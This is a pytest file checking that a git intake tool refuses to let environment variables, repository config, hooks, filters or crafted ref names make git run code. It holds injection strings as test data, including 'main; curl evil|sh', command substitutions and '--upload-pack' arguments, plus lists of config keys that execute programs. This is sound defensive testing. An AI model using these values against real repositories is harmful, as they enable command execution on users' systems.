"""Section G, 142-145: neither the environment, nor a repository's settings, nor a ref's name makes git run anything."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from repo import Repo, branched

from backline.errors import RequestError
from backline.intake.change import Change, from_branch, from_worktree
from backline.intake.diff import added
from backline.intake.git import Repository


def every_way(folder: Path) -> tuple[Change, Change, Change]:
    """The branch, the uncommitted work and the staged work of one repository."""
    with Repository.open(folder) as opened:
        return from_branch(opened, "main"), from_worktree(opened), from_worktree(opened, staged=True)


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    made = branched(tmp_path / "repo", {"a.py": "1\n", "b.py": "1\n"}, {"a.py": "1\nos.system(x)\n"})
    made.write("b.py", "2\n")
    made.write("new.py", "3\n")
    return made


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """A program that leaves a trace when anything runs it."""
    program = tmp_path / "evil.sh"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/marker\ncat\n")
    program.chmod(0o755)
    return tmp_path / "marker"


def assert_as_it_is(folder: Path, marker: Path) -> None:
    branch, uncommitted, staged = every_way(folder)
    assert [(file.path, added(file)) for file in branch.files] == [("a.py", {2: "os.system(x)"})]
    assert [(file.path, added(file)) for file in uncommitted.files] == [("b.py", {1: "2"}), ("new.py", {1: "3"})]
    assert staged.files == ()
    assert not marker.exists()


ENVIRONMENTS = [
    {"GIT_DIR": "/nowhere"},
    {"GIT_WORK_TREE": "/nowhere"},
    {"GIT_INDEX_FILE": "/nowhere"},
    {"GIT_OBJECT_DIRECTORY": "/nowhere"},
    {"GIT_EXTERNAL_DIFF": "EVIL"},
    {"GIT_DIFF_OPTS": "-u0"},
    {"GIT_PAGER": "EVIL", "PAGER": "EVIL"},
    {"GIT_SSH_COMMAND": "EVIL", "GIT_SSH": "EVIL", "GIT_ASKPASS": "EVIL", "GIT_EDITOR": "EVIL"},
    {"GIT_EXEC_PATH": "FOLDER"},
    {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "EVIL"},
    {"GIT_CONFIG_PARAMETERS": "'core.fsmonitor'='EVIL'"},
    {"GIT_CONFIG_GLOBAL": "FOLDER/config"},
    {"GIT_CONFIG_SYSTEM": "FOLDER/config"},
    {"XDG_CONFIG_HOME": "FOLDER"},
    {"HOME": "FOLDER"},
    {"GIT_TEMPLATE_DIR": "FOLDER", "GIT_NAMESPACE": "evil", "GIT_CEILING_DIRECTORIES": "/"},
    {"GIT_LITERAL_PATHSPECS": "1", "GIT_GLOB_PATHSPECS": "1"},
    {"GIT_TRACE": "FOLDER/trace", "GIT_TRACE2": "FOLDER/trace", "GIT_TRACE_SETUP": "FOLDER/trace"},
    {"LC_ALL": "de_DE.UTF-8", "LANGUAGE": "de"},
    {"PYTHONPATH": ".", "PYTHONSTARTUP": "EVIL", "PYTHONWARNINGS": "error"},
]


@pytest.mark.parametrize("variables", ENVIRONMENTS, ids=lambda variables: next(iter(variables)))
def test_142_no_variable_reaches_git(
    repo: Repo, marker: Path, monkeypatch: pytest.MonkeyPatch, variables: dict[str, str]
) -> None:
    folder = repo.path.parent / "folder"
    (folder / "git").mkdir(parents=True)
    hostile = f"[core]\n\tfsmonitor = {marker.parent}/evil.sh\n\tpager = {marker.parent}/evil.sh\n"
    for place in ("config", ".gitconfig", "git/config"):
        (folder / place).write_text(hostile + f"[diff]\n\texternal = {marker.parent}/evil.sh\n")
    for name, value in variables.items():
        monkeypatch.setenv(name, value.replace("EVIL", f"{marker.parent}/evil.sh").replace("FOLDER", str(folder)))
    assert_as_it_is(repo.path, marker)
    assert not (folder / "trace").exists()


def test_143_an_embedded_bare_repository_is_refused_from_every_folder_of_it(repo: Repo, marker: Path) -> None:
    inner = repo.path / "sub"
    Repo(inner, bare=True).git("config", "core.fsmonitor", f"{marker.parent}/evil.sh")
    for folder in (inner, inner / "refs", inner / "objects/info"):
        with pytest.raises(RequestError, match="bare repository inside of") as caught:
            every_way(folder)
        assert str(repo.path) in str(caught.value) and "\n" not in str(caught.value)
    assert not marker.exists()


def test_143_the_smallest_thing_that_git_takes_for_a_repository_is_refused_too(repo: Repo, marker: Path) -> None:
    inner = repo.path / "sub"
    for place in ("objects/k", "refs/heads/k"):
        (inner / place).mkdir(parents=True)
    (inner / "HEAD").write_text("ref: refs/heads/main\n")
    (inner / "config").write_text(
        f"[core]\nrepositoryformatversion = 0\nbare = false\nworktree = ..\nfsmonitor = {marker.parent}/evil.sh\n"
    )
    with pytest.raises(RequestError, match="bare repository inside of"):
        every_way(inner)
    assert not marker.exists()


LOCAL = [
    ("core.pager", "EVIL"), ("core.fsmonitor", "EVIL"), ("core.hooksPath", "FOLDER"), ("core.sshCommand", "EVIL"),
    ("core.editor", "EVIL"), ("core.gitProxy", "EVIL"), ("core.askPass", "EVIL"), ("core.alternateRefsCommand", "EVIL"),
    ("diff.external", "EVIL"), ("diff.x.command", "EVIL"), ("diff.x.textconv", "EVIL"), ("filter.x.clean", "EVIL"),
    ("filter.x.smudge", "EVIL"), ("filter.x.process", "EVIL"), ("alias.diff", "!EVIL"), ("alias.status", "!EVIL"),
    ("alias.cat-file", "!EVIL"), ("credential.helper", "!EVIL"), ("include.path", "FOLDER/config"),
    ("pager.diff", "EVIL"), ("interactive.diffFilter", "EVIL"), ("gpg.program", "EVIL"), ("log.showSignature", "true"),
    ("uploadpack.packObjectsHook", "EVIL"), ("merge.x.driver", "EVIL"), ("remote.origin.uploadpack", "EVIL"),
    ("core.excludesFile", "/dev/zero"), ("core.attributesFile", "/dev/zero"), ("status.showUntrackedFiles", "no"),
    ("status.renames", "copies"), ("core.untrackedCache", "true"), ("core.splitIndex", "true"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), LOCAL)
def test_144_no_setting_of_the_repository_runs_anything(repo: Repo, marker: Path, name: str, value: str) -> None:
    folder = repo.path.parent / "folder"
    folder.mkdir()
    evil = f"{marker.parent}/evil.sh"
    (folder / "config").write_text(f"[core]\n\tfsmonitor = {evil}\n[diff]\n\texternal = {evil}\n")
    for hook in ("post-index-change", "pre-commit", "post-checkout", "reference-transaction"):
        (folder / hook).symlink_to(evil)
        (repo.path / ".git/hooks" / hook).unlink(missing_ok=True)
        (repo.path / ".git/hooks" / hook).symlink_to(evil)
    repo.write(".git/info/attributes", "* filter=x diff=x merge=x\n")
    os.utime(repo.path / "a.py", (1, 1))
    with (repo.path / ".git/config").open("a") as config:
        section, _, key = name.rpartition(".")
        section, _, subsection = section.partition(".")
        header = f'[{section} "{subsection}"]' if subsection else f"[{section}]"
        config.write(f'{header}\n\t{key} = "{value.replace("EVIL", evil).replace("FOLDER", str(folder))}"\n')
    assert_as_it_is(repo.path, marker)


def test_144_attributes_of_the_work_tree_run_no_filter(repo: Repo, marker: Path) -> None:
    for way in ("clean", "smudge", "process"):
        repo.git("config", f"filter.x.{way}", f"{marker.parent}/evil.sh")
    repo.git("config", "filter.x.required", "true")
    repo.write(".gitattributes", "*.py filter=x\n")
    repo.write("a.py", "1\nos.system(y)\n")
    os.utime(repo.path / "b.py")
    _, uncommitted, _ = every_way(repo.path)
    assert {file.path: added(file) for file in uncommitted.files} == {
        ".gitattributes": {1: "*.py filter=x"}, "a.py": {2: "os.system(y)"}, "b.py": {1: "2"}, "new.py": {1: "3"},
    }  # fmt: skip
    assert not marker.exists()


def test_144_a_missing_object_of_a_partial_clone_is_not_fetched(repo: Repo, marker: Path) -> None:
    oid = repo.git("rev-parse", "HEAD:a.py")
    (repo.path / f".git/objects/{oid[:2]}/{oid[2:]}").unlink()
    for name, value in (
        ("extensions.partialClone", "origin"), ("core.repositoryFormatVersion", "1"),
        ("remote.origin.url", f"ext::{marker.parent}/evil.sh"), ("remote.origin.promisor", "true"),
        ("remote.origin.uploadpack", f"{marker.parent}/evil.sh"), ("protocol.ext.allow", "always"),
    ):  # fmt: skip
        repo.git("config", name, value)
    with pytest.raises(RequestError), Repository.open(repo.path) as opened:
        from_branch(opened, "main")
    assert not marker.exists()


def test_144_a_replaced_commit_is_not_believed(repo: Repo) -> None:
    repo.git("replace", "HEAD", "main")
    branch, _, _ = every_way(repo.path)
    assert [file.path for file in branch.files] == ["a.py"]


REFS = [
    "main; curl evil|sh", "$(touch MARKER)", "`touch MARKER`", "--upload-pack=touch MARKER", "--output=MARKER", "-",
    "--", "HEAD@{1}", "@{u}", "a..b", "main..HEAD", "main...HEAD", "refs/heads/../x", "main\n", "main\nHEAD", "\n", "",
    " ",
    "x" * 10_000, "HEAD:a.py", ":/before", "main^{tree}", "HEAD^{/before}", "main\0", "main\x1b[31m", "１２", "*",
    "[a]", "^main", "../../etc/passwd", "/etc/passwd", "//x", "\udce9", "a\u2028b", "main\\", "-Omain", "--all",
    "main~" + "9" * 99, "deadbeef", "0" * 40, "HEAD~" + "1" * 6,
]  # fmt: skip


@pytest.mark.parametrize("side", ["base", "head"])
@pytest.mark.parametrize("name", REFS, ids=range(len(REFS)))
def test_145_a_ref_that_is_none_is_one_line(repo: Repo, marker: Path, name: str, side: str) -> None:
    name = name.replace("MARKER", str(marker))
    before = sorted(repo.path.rglob("*"))
    with Repository.open(repo.path) as opened:
        if not name:
            return  # nothing was named: the default is taken
        with pytest.raises(RequestError, match="ref") as caught:
            from_branch(opened, **{"base": "main", side: name})
    assert len(str(caught.value)) < 300 and str(caught.value).isprintable()
    assert not marker.exists()
    assert sorted(repo.path.rglob("*")) == before
